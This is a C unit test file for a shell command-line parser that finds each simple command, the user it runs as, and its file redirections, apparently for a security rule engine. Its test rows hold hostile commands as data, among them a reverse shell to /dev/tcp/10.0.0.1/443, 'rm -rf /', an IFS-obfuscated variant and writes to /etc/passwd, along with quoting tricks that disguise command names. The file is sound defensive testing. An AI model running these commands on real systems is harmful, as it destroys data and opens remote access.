/* Command lines as shells read them (lib/rules/words.h): one row a line. Expected: the simple commands, "NAME: words", separated by
 * " ; "; a name that is unknown is "?"; " @USER" says as whom, " >FILE" and " <FILE" name files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/attr.h"
#include "base/str.h"
#include "rules/words.h"

static const struct {
	const char	*line, *want;
	unsigned	 flags;
} rows[] = {
	/* words and quoting */
	{ "", "", 0 },
	{ "   # reboot", "", 0 },
	{ "ls", "ls: ls", 0 },
	{ "ls -l  /tmp", "ls: ls -l /tmp", 0 },
	{ "\\su", "su: su", 0 },
	{ "'s'u", "su: su", 0 },
	{ "s\"u\" -", "su: su -", 0 },
	{ "$'\\x73\\165'", "su: su", 0 },
	{ "$'\\u0073u'", "su: su", 0 },
	{ "$\"su\"", "su: su", 0 },
	{ "/bin/su", "su: /bin/su", 0 },
	{ "/usr/bin/../sbin//./su", "su: /usr/bin/../sbin//./su", 0 },
	{ "/tmp/su", "/tmp/su: /tmp/su", 0 },
	{ "./su", "./su: ./su", 0 },
	{ "/usr/bin/../../tmp/su", "/tmp/su: /usr/bin/../../tmp/su", 0 },
	{ "/bin/../../../bin/su", "su: /bin/../../../bin/su", 0 },
	{ "=su", "su: =su", 0 },
	{ "echo 'a;b' \"c|d\" e\\;f", "echo: echo a;b c|d e;f", 0 },
	{ "echo a#b # c", "echo: echo a#b", 0 },
	{ "echo a\\\nb", "echo: echo ab", 0 },
	{ "su\trun", "su: su run", 0 },
	{ "\xe6\x9d\xa1\xe4\xbb\xb6 x", "\xe6\x9d\xa1\xe4\xbb\xb6: \xe6\x9d\xa1\xe4\xbb\xb6 x", 0 },
	/* what is not known */
	{ "$x y", "?: $x y", 0 },
	{ "a${b}c", "?: a${b}c", 0 },
	{ "/bin/s?", "?: /bin/s?", 0 },
	{ "{su,-}", "?: {su,-}", 0 },
	{ "[ -f x ]", "[: [ -f x ]", 0 },
	{ "!!", "?: !!", 0 },
	{ "rm${IFS}-rf${IFS}/", "?: rm${IFS}-rf${IFS}/", 0 },
	{ "$(echo su) x", "?: $(echo su) x ; echo: echo su", 0 },
	/* lists, pipelines, groups */
	{ "ls;rm -rf /", "ls: ls ; rm: rm -rf /", 0 },
	{ "a&&b||c&d", "a: a ; b: b ; c: c ; d: d", 0 },
	{ "a | b |& c", "a: a ; b: b ; c: c", 0 },
	{ "a\nb\r\nc", "a: a ; b: b ; c: c", 0 },
	{ "(cd /; reboot)", "cd: cd / ; reboot: reboot", 0 },
	{ "((reboot; x) )", "reboot: reboot ; x: x", 0 },
	{ "((x = 1 + $(reboot)))", "reboot: reboot", 0 },
	{ "{ reboot; }", "reboot: reboot", 0 },
	{ "! reboot", "reboot: reboot", 0 },
	{ "x=1 y=$(id) reboot -f", "reboot: reboot -f ; id: id", 0 },
	{ "a=(1 $(reboot) 2)", "?: ; reboot: reboot", 0 },
	{ "PATH+=:/x su", "su: su", 0 },
	{ "'x'=1 su", "x=1: x=1 su", 0 },
	/* compound commands */
	{ "if reboot; then halt; elif x; then y; else z; fi", "reboot: reboot ; halt: halt ; x: x ; y: y ; z: z", 0 },
	{ "while true; do reboot; done", "true: true ; reboot: reboot", 0 },
	{ "for i in 1 $(id) 3; do reboot; done", "id: id ; reboot: reboot", 0 },
	{ "for ((i=0; i<3; i++)); do reboot; done", "reboot: reboot", 0 },
	{ "case $x in a|b) reboot;; (c) halt;& *) id;; esac; ls", "reboot: reboot ; halt: halt ; id: id ; ls: ls", 0 },
	{ "echo $(case x in x) reboot;; esac)", "echo: echo $(case x in x) reboot;; esac) ; reboot: reboot", 0 },
	{ "[[ -f x && $(reboot) > y ]] && halt", "reboot: reboot ; halt: halt", 0 },
	{ "f() { reboot; }; f", "reboot: reboot ; f: f", 0 },
	{ "function f { reboot; }", "reboot: reboot", 0 },
	{ "done_x; fi_y", "done_x: done_x ; fi_y: fi_y", 0 },
	{ "echo if then", "echo: echo if then", 0 },
	{ "'if' x", "if: if x", 0 },
	{ "while read a; do rm -f \"$a\"; done < list > /etc/passwd", "read: read a ; rm: rm -f $a ; ?: <list >/etc/passwd", 0 },
	/* substitutions */
	{ "echo `reboot`", "echo: echo `reboot` ; reboot: reboot", 0 },
	{ "echo `echo \\`reboot\\``", "echo: echo `echo \\`reboot\\`` ; echo: echo `reboot` ; reboot: reboot", 0 },
	{ "echo \"a $(reboot; id) b\"", "echo: echo a $(reboot; id) b ; reboot: reboot ; id: id", 0 },
	{ "echo '$(reboot)'", "echo: echo $(reboot)", 0 },
	{ "diff <(reboot) >(halt)", "diff: diff <(reboot) >(halt) ; reboot: reboot ; halt: halt", 0 },
	{ "echo $((1 + $(reboot)))", "echo: echo $((1 + $(reboot))) ; reboot: reboot", 0 },
	{ "echo $((reboot);(halt))", "echo: echo $((reboot);(halt)) ; reboot: reboot ; halt: halt", 0 },
	{ "echo ${x:-$(reboot)}", "echo: echo ${x:-$(reboot)} ; reboot: reboot", 0 },
	/* redirections */
	{ "echo x > /etc/passwd", "echo: echo x >/etc/passwd", 0 },
	{ "echo x>>/etc/passwd 2>&1", "echo: echo x >/etc/passwd", 0 },
	{ "> /etc/passwd", "?: >/etc/passwd", 0 },
	{ "cat 3<in >|out 2>err &>all <>both", "cat: cat <in >out >err >all >both <both", 0 },
	{ "bash -i >& /dev/tcp/10.0.0.1/443 0>&1", "bash: bash -i >/dev/tcp/10.0.0.1/443", 0 },
	{ "exec {fd}<>/dev/tcp/h/1", "exec: exec >/dev/tcp/h/1 </dev/tcp/h/1", 0 },
	{ "echo 2 >x", "echo: echo 2 >x", 0 },
	/* here-documents */
	{ "cat <<EOF\nreboot\nEOF\nls", "cat: cat ; ls: ls", 0 },
	{ "cat <<EOF\n$(reboot) `halt`\nEOF", "cat: cat ; reboot: reboot ; halt: halt", 0 },
	{ "cat <<'EOF'\n$(reboot)\nEOF", "cat: cat", 0 },
	{ "bash <<EOF\nreboot\nEOF", "bash: bash ; reboot: reboot", 0 },
	{ "sudo sh -s <<-X\n\treboot\n\tX\nid", "sudo: sudo sh -s ; sh: sh -s @root ; reboot: reboot @root ; id: id", 0 },
	{ "bash <<< 'reboot now'", "bash: bash ; reboot: reboot now", 0 },
	{ "python3 <<< 'reboot now'", "python3: python3", 0 },
	/* commands that run commands */
	{ "sudo reboot", "sudo: sudo reboot ; reboot: reboot @root", 0 },
	{ "sudo -u bob -n LANG=C rm -rf /x", "sudo: sudo -u bob -n LANG=C rm -rf /x ; rm: rm -rf /x @bob", 0 },
	{ "sudo -ubob id", "sudo: sudo -ubob id ; id: id @bob", 0 },
	{ "sudo --user bob -- id", "sudo: sudo --user bob -- id ; id: id @bob", 0 },
	{ "sudo sh -c 'reboot'", "sudo: sudo sh -c reboot ; sh: sh -c reboot @root ; reboot: reboot @root", 0 },
	{ "sh -c 'ls; sh -c \"reboot\"'", "sh: sh -c ls; sh -c \"reboot\" ; ls: ls ; sh: sh -c reboot ; reboot: reboot", 0 },
	{ "bash -euo pipefail -c 'reboot' x", "bash: bash -euo pipefail -c reboot x ; reboot: reboot", 0 },
	{ "bash -o posix -lc reboot", "bash: bash -o posix -lc reboot ; reboot: reboot", 0 },
	{ "bash --rcfile f -c reboot", "bash: bash --rcfile f -c reboot ; reboot: reboot", 0 },
	{ "bash script -c reboot", "bash: bash script -c reboot", 0 },
	{ "sh -c \"$x\"", "sh: sh -c $x ; ?: ; ?: $x", 0 },
	{ "env -i A=1 nohup nice -n 5 reboot", "env: env -i A=1 nohup nice -n 5 reboot ; nohup: nohup nice -n 5 reboot ; nice: nice -n 5 reboot ; reboot: reboot", 0 },
	{ "timeout -k 5 10s reboot", "timeout: timeout -k 5 10s reboot ; reboot: reboot", 0 },
	{ "time -p reboot", "time: time -p reboot ; reboot: reboot", 0 },
	{ "exec -a x reboot", "exec: exec -a x reboot ; reboot: reboot", 0 },
	{ "command -v reboot", "command: command -v reboot", 0 },
	{ "command -p reboot", "command: command -p reboot ; reboot: reboot", 0 },
	{ "eval re\"boot\" '; id'", "eval: eval reboot ; id ; reboot: reboot ; id: id", 0 },
	{ "xargs -n 1 rm -f", "xargs: xargs -n 1 rm -f ; rm: rm -f", 0 },
	{ "find / -name x -exec rm {} \\; -execdir id +", "find: find / -name x -exec rm {} ; -execdir id + ; rm: rm {} ; id: id", 0 },
	{ "su - bob -c 'reboot'", "su: su - bob -c reboot ; reboot: reboot @bob", 0 },
	{ "su -c reboot", "su: su -c reboot ; reboot: reboot @root", 0 },
	{ "runuser -u bob reboot", "runuser: runuser -u bob reboot ; reboot: reboot @bob", 0 },
	{ "trap 'reboot' EXIT", "trap: trap reboot EXIT ; reboot: reboot", 0 },
	{ "alias ls='reboot -f'", "alias: alias ls=reboot -f ; reboot: reboot -f", 0 },
	{ "watch -n 1 'reboot'", "watch: watch -n 1 reboot ; reboot: reboot", 0 },
	{ "ssh -p 22 web2 sudo reboot", "ssh: ssh -p 22 web2 sudo reboot ; sudo: sudo reboot ; reboot: reboot @root", 0 },
	{ "busybox reboot", "busybox: busybox reboot ; reboot: reboot", 0 },
	{ "flock /x -c reboot", "flock: flock /x -c reboot ; reboot: reboot", 0 },
	{ "echo reboot | sh", "echo: echo reboot ; sh: sh ; reboot: reboot", 0 },
	{ "printf 'reboot' | sudo bash -s", "printf: printf reboot ; sudo: sudo bash -s ; bash: bash -s @root ; reboot: reboot @root", 0 },
	{ "echo reboot | cat", "echo: echo reboot ; cat: cat", 0 },
	{ "echo reboot | sh script", "echo: echo reboot ; sh: sh script", 0 },
	/* lines that go on */
	{ "echo 'a", "echo: echo a", SP_CMDLINE_INCOMPLETE },
	{ "echo \"a", "echo: echo a", SP_CMDLINE_INCOMPLETE },
	{ "echo $(reboot", "echo: echo $(reboot ; reboot: reboot", SP_CMDLINE_INCOMPLETE },
	{ "reboot |", "reboot: reboot", SP_CMDLINE_INCOMPLETE },
	{ "reboot &&", "reboot: reboot", SP_CMDLINE_INCOMPLETE },
	{ "reboot &", "reboot: reboot", 0 },
	{ "echo a\\", "echo: echo a", SP_CMDLINE_INCOMPLETE },
	{ "cat <<EOF", "cat: cat", SP_CMDLINE_INCOMPLETE },
	{ "cat <<EOF\nx", "cat: cat", SP_CMDLINE_INCOMPLETE },
	{ "if true", "true: true", SP_CMDLINE_INCOMPLETE },
	{ "while true; do", "true: true", SP_CMDLINE_INCOMPLETE },
	{ "(reboot", "reboot: reboot", SP_CMDLINE_INCOMPLETE },
	{ "f() {", "", SP_CMDLINE_INCOMPLETE },
	{ "case x in", "", SP_CMDLINE_INCOMPLETE },
	{ "sh -c 'echo \"a'", "sh: sh -c echo \"a ; echo: echo a", 0 },
	{ "cat <<EOF\n$(reboot\nEOF", "cat: cat ; reboot: reboot", 0 },
	/* nonsense does not stop it */
	{ ") reboot", "reboot: reboot", 0 },
	{ ";; reboot", "reboot: reboot", 0 },
	{ "esac reboot", "reboot: reboot", 0 },
	{ "echo a(b) reboot", "echo: echo a ; b: b ; reboot: reboot", 0 }
};

static void
show(const struct sp_cmdline *l, char *dst, size_t size)
{
	size_t at = 0;

	dst[0] = '\0';
	for (size_t i = 0; i < l->n; i++) {
		const struct sp_cmd *c = &l->cmd[i];

		sp_snprintf(dst + at, size - at, "%s%s:", i > 0 ? " ; " : "", c->name_len > 0 ? l->text + c->name : "?");
		at += strlen(dst + at);
		if (c->line_len > 0) {
			sp_snprintf(dst + at, size - at, " %s", l->text + c->line);
			at += strlen(dst + at);
		}
		if (c->user_len > 0) {
			sp_snprintf(dst + at, size - at, " @%s", l->text + c->user);
			at += strlen(dst + at);
		}
		for (uint32_t w = c->first; w != SP_CMDLINE_NONE; w = l->word[w].next)
			if (l->word[w].kind == SP_CMDWORD_READ || l->word[w].kind == SP_CMDWORD_WRITE) {
				sp_snprintf(dst + at, size - at, " %c%s", l->word[w].kind == SP_CMDWORD_READ ? '<' : '>', l->text + l->word[w].off);
				at += strlen(dst + at);
			}
	}
}

static void
finds_every_simple_command(void **state)
{
	struct sp_cmdline l = { 0 };
	char got[4096];

	(void)state;
	for (size_t i = 0; i < SP_NELEMS(rows); i++) {
		assert_int_equal(sp_cmdline_parse(&l, rows[i].line, strlen(rows[i].line)), SP_OK);
		show(&l, got, sizeof(got));
		if (strcmp(got, rows[i].want) != 0 || l.flags != rows[i].flags)
			fail_msg("%s\n  is   %s (%u)\n  want %s (%u)", rows[i].line, got, l.flags, rows[i].want, rows[i].flags);
	}
	sp_cmdline_release(&l);
}

static void
says_when_a_bound_cuts_it(void **state)
{
	struct sp_cmdline l = { 0 };
	char *p = malloc(SP_CMDLINE_MAX + 1);

	(void)state;
	assert_non_null(p);
	memset(p, '(', SP_CMDLINE_MAX + 1);
	assert_int_equal(sp_cmdline_parse(&l, p, SP_CMDLINE_MAX + 1), SP_ESIZE);
	assert_int_equal(l.n, 0);
	assert_int_equal(sp_cmdline_parse(&l, p, SP_CMDLINE_MAX), SP_OK);	/* deep */
	assert_true(l.flags & SP_CMDLINE_CUT);
	for (size_t i = 0; i < SP_CMDLINE_MAX; i++)
		p[i] = i % 2 ? ';' : 'a';						/* many commands */
	assert_int_equal(sp_cmdline_parse(&l, p, SP_CMDLINE_MAX), SP_OK);
	assert_true(l.flags & SP_CMDLINE_CUT);
	assert_int_equal(l.n, SP_CMDLINE_COMMANDS_MAX);
	for (size_t i = 0; i < SP_CMDLINE_MAX; i++)
		p[i] = i % 2 ? ' ' : 'a';						/* many words */
	assert_int_equal(sp_cmdline_parse(&l, p, SP_CMDLINE_MAX), SP_OK);
	assert_true(l.flags & SP_CMDLINE_CUT);
	for (size_t i = 0; i + 5 <= SP_CMDLINE_MAX; i += 5)
		memcpy(p + i, "sudo ", 5);						/* each runs the next */
	assert_int_equal(sp_cmdline_parse(&l, p, 1000), SP_OK);
	assert_true(l.flags & SP_CMDLINE_CUT);
	memset(p, 'a', SP_CMDLINE_MAX);							/* one long word */
	assert_int_equal(sp_cmdline_parse(&l, p, SP_CMDLINE_MAX), SP_OK);
	assert_int_equal(l.flags, 0);
	assert_int_equal(l.cmd[0].name_len, SP_CMDLINE_MAX);
	free(p);
	sp_cmdline_release(&l);
}

static void
every_beginning_of_a_line_is_read(void **state)
{
	struct sp_cmdline l = { 0 };

	(void)state;
	for (size_t i = 0; i < SP_NELEMS(rows); i++)
		for (size_t n = 0; n <= strlen(rows[i].line); n++) {
			char *copy = malloc(n + 1);	/* its end is the end of the memory: a sanitizer sees more */

			assert_non_null(copy);
			memcpy(copy, rows[i].line, n);
			assert_int_equal(sp_cmdline_parse(&l, copy, n), SP_OK);
			free(copy);
		}
	sp_cmdline_release(&l);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_every_simple_command),
		cmocka_unit_test(says_when_a_bound_cuts_it),
		cmocka_unit_test(every_beginning_of_a_line_is_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
